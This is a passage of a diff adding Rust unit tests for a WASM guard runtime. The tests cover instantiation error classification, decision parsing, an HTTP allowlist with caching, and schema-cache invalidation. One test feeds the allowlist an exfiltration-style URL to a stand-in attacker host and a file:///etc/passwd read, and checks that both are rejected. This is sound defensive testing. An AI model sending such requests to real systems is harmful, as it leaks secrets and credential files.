+		assert_eq!(calls, 3);
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_instantiate_failure_classification() {
+		let InstantiateFailure::Transient(err) =
+			InstantiateFailure::classify(wasmtime::Error::msg("failed to allocate memory"))
+		else {
+			panic!("resource exhaustion should be transient");
+		};
+		assert!(matches!(err, GuardError::DownstreamUnavailable(_)));
+		assert!(err.is_retryable());
+
+		let InstantiateFailure::Permanent(err) =
+			InstantiateFailure::classify(wasmtime::Error::msg("unknown import: `host::log`"))
+		else {
+			panic!("link errors should be permanent");
+		};
+		assert!(matches!(err, GuardError::WasmError(_)));
+		assert!(!err.is_retryable());
+
+		// Exceeding max_memory is deterministic, not memory pressure
+		for msg in [
+			"memory minimum size of 320 pages exceeds memory limits",
+			"resource limit exceeded: memory",
+		] {
+			let InstantiateFailure::Permanent(err) =
+				InstantiateFailure::classify(wasmtime::Error::msg(msg))
+			else {
+				panic!("'{msg}' should be permanent");
+			};
+			assert!(!err.is_retryable());
+		}
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_parse_decision_rejects_malformed_results() {
+		for result in [
+			vec![],
+			vec![Val::Bool(true)],
+			vec![Val::Result(Ok(Some(Box::new(Val::Variant(
+				"escalate".to_string(),
+				None,
+			)))))],
+		] {
+			match WasmGuard::parse_decision(&result) {
+				Err(GuardError::InvalidDecision(_)) => {},
+				other => panic!("Expected InvalidDecision for {:?}, got {:?}", result, other),
+			}
+		}
 	}
 
 	/// Integration test that loads the actual WASM guard and tests it
@@ -1052,7 +1738,11 @@ module_path: ./guards/test.wasm
 			max_memory: 10 * 1024 * 1024,
 			max_wasm_stack: default_max_wasm_stack(),
 			timeout_ms: 1000,
+			instantiate_retries: default_instantiate_retries(),
+			instantiate_backoff_ms: default_instantiate_backoff_ms(),
 			config: HashMap::new(), // Use default patterns
+			http_allowed_hosts: Vec::new(),
+			http_cache_ttl_ms: default_http_cache_ttl_ms(),
 		};
 
 		let guard =
@@ -1102,4 +1792,145 @@ module_path: ./guards/test.wasm
 			"Expected Deny when blocked tool is present"
 		);
 	}
+
+	/// Fetcher answering every URL with its path, counting the requests it serves
+	#[cfg(feature = "wasm-guards")]
+	#[derive(Default)]
+	struct CountingFetcher(std::sync::atomic::AtomicUsize);
+
+	#[cfg(feature = "wasm-guards")]
+	impl HttpFetcher for CountingFetcher {
+		fn get(&self, url: url::Url) -> BoxFuture<'static, Result<String, String>> {
+			self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+			Box::pin(async move { Ok(format!("reputation of {}", url.path())) })
+		}
+	}
+
+	#[cfg(feature = "wasm-guards")]
+	fn host_http(yaml: &str) -> (HostHttp, Arc<CountingFetcher>) {
+		let config: WasmGuardConfig = serde_yaml::from_str(yaml).unwrap();
+		let fetcher = Arc::new(CountingFetcher::default());
+		(HostHttp::new(&config, Some(fetcher.clone())), fetcher)
+	}
+
+	#[cfg(feature = "wasm-guards")]
+	fn fetch_count(fetcher: &CountingFetcher) -> usize {
+		fetcher.0.load(std::sync::atomic::Ordering::SeqCst)
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_http_get_cached_hit() {
+		let (http, fetcher) = host_http(
+			r#"
+module_path: ./guards/intel.wasm
+http_allowed_hosts: ["*.intel.example"]
+"#,
+		);
+		let url = "https://api.intel.example/servers/github";
+		assert_eq!(http.get(url).unwrap(), "reputation of /servers/github");
+		assert_eq!(http.get(url).unwrap(), "reputation of /servers/github");
+		assert_eq!(fetch_count(&fetcher), 1);
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_http_get_cache_miss() {
+		let (http, fetcher) = host_http(
+			r#"
+module_path: ./guards/intel.wasm
+http_allowed_hosts: ["API.intel.example"]
+"#,
+		);
+		http
+			.get("https://api.intel.example/servers/github")
+			.unwrap();
+		assert_eq!(
+			http.get("https://api.intel.example/servers/jira").unwrap(),
+			"reputation of /servers/jira"
+		);
+		assert_eq!(fetch_count(&fetcher), 2);
+
+		// Without a TTL, every lookup goes to the network
+		let (http, fetcher) = host_http(
+			r#"
+module_path: ./guards/intel.wasm
+http_allowed_hosts: ["api.intel.example"]
+http_cache_ttl_ms: 0
+"#,
+		);
+		http
+			.get("https://api.intel.example/servers/github")
+			.unwrap();
+		http
+			.get("https://api.intel.example/servers/github")
+			.unwrap();
+		assert_eq!(fetch_count(&fetcher), 2);
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_http_get_disallowed_host_rejected() {
+		let (http, fetcher) = host_http(
+			r#"
+module_path: ./guards/intel.wasm
+http_allowed_hosts: ["*.intel.example"]
+"#,
+		);
+		let err = http
+			.get("https://attacker.example/exfil?d=secret")
+			.unwrap_err();
+		assert_eq!(err, "host 'attacker.example' is not in http_allowed_hosts");
+		assert!(http.get("file:///etc/passwd").is_err());
+		assert_eq!(fetch_count(&fetcher), 0);
+
+		// No allowed hosts disables http-get entirely
+		let (http, _) = host_http("module_path: ./guards/intel.wasm\n");
+		assert!(
+			http
+				.get("https://api.intel.example/servers/github")
+				.is_err()
+		);
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_schema_cache_read_through() {
+		use std::io::Write;
+
+		let cache = SchemaCache::default();
+		let mut module = tempfile::NamedTempFile::new().unwrap();
+		module.write_all(b"v1").unwrap();
+		let load = || {
+			Ok(ModuleSchemas {
+				settings_schema: r#"{"type":"object"}"#.to_string(),
+				default_config: None,
+			})
+		};
+
+		cache.get_or_load(module.path(), load).unwrap();
+		assert_eq!(cache.load_count(), 1);
+
+		// Second fetch is served from cache without running the loader
+		let schemas = cache
+			.get_or_load(module.path(), || panic!("module re-instantiated"))
+			.unwrap();
+		assert_eq!(schemas.settings_schema, r#"{"type":"object"}"#);
+		assert_eq!(cache.load_count(), 1);
+
+		// Changing the module invalidates the entry, even with the same size and mtime
+		let modified = std::fs::metadata(module.path())
+			.unwrap()
+			.modified()
+			.unwrap();
+		std::fs::write(module.path(), b"v2").unwrap();
+		module.as_file().set_modified(modified).unwrap();
+		cache.get_or_load(module.path(), load).unwrap();
+		assert_eq!(cache.load_count(), 2);
+
+		// Failed loads are not cached
+		let missing = module.path().with_extension("missing");
+		assert!(cache.get_or_load(&missing, load).is_err());
+		assert_eq!(cache.load_count(), 2);
+	}
 }